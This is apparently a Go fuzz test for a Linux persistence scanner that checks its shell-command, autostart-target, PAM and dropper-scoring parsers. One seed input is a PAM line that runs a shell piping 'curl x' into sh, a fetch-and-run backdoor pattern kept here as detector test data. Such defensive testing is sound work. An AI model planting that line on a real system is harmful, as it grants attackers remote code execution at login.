package linux

import (
	"path"
	"reflect"
	"strings"
	"testing"
)

// FuzzAutostartParsers: the command splitter, target resolver, PAM parser
// and dropper scorer take bytes from the image. Never a panic; targets are
// clean absolute paths; lines exist; the same input gives the same result.
func FuzzAutostartParsers(f *testing.F) {
	f.Add("sh -c 'cd /opt/x && ./run' ; nohup bash /tmp/a.sh & . /etc/default/x")
	f.Add("auth [success=1 default=ignore] pam_exec.so quiet /bin/sh -c \"curl x | sh\"\n@include common-auth\n")
	f.Add(dropperCases[0].text)
	fsys := overlayWith(f, tree(f, map[string]string{"usr/local/bin/y.sh": "#!/bin/sh\n"}), "")
	pathEnv := []string{"/usr/local/bin", "/usr/bin"}
	f.Fuzz(func(t *testing.T, s string) {
		n := lineCount([]byte(s))
		got := commandTargets(s, "/", pathEnv, fsys)
		for _, p := range got {
			if !strings.HasPrefix(p, "/") || path.Clean(p) != p {
				t.Fatalf("target %q of %q", p, s)
			}
		}
		if again := commandTargets(s, "/", pathEnv, fsys); !reflect.DeepEqual(got, again) {
			t.Fatal("targets differ on a second run")
		}
		for _, w := range shellWords(s) {
			if strings.HasPrefix(w, ">") {
				t.Fatalf("redirection %q kept as a word", w)
			}
		}
		ls, bad := ParsePAM([]byte(s), false)
		for _, l := range ls {
			if l.Line < 1 || l.Line > n || l.Module == "" {
				t.Fatalf("pam line %+v", l)
			}
		}
		for _, b := range bad {
			if b < 1 || b > n {
				t.Fatalf("bad %d", b)
			}
		}
		sc := ScoreScript([]byte(s))
		seen := map[string]bool{}
		for _, b := range sc.Behaviours {
			if seen[b.Name] || b.Line < 1 || b.Line > n {
				t.Fatalf("behaviour %+v", b)
			}
			seen[b.Name] = true
		}
		if sc.Scored != (len(sc.Behaviours) >= 2) {
			t.Fatalf("scored %v with %d behaviours", sc.Scored, len(sc.Behaviours))
		}
	})
}
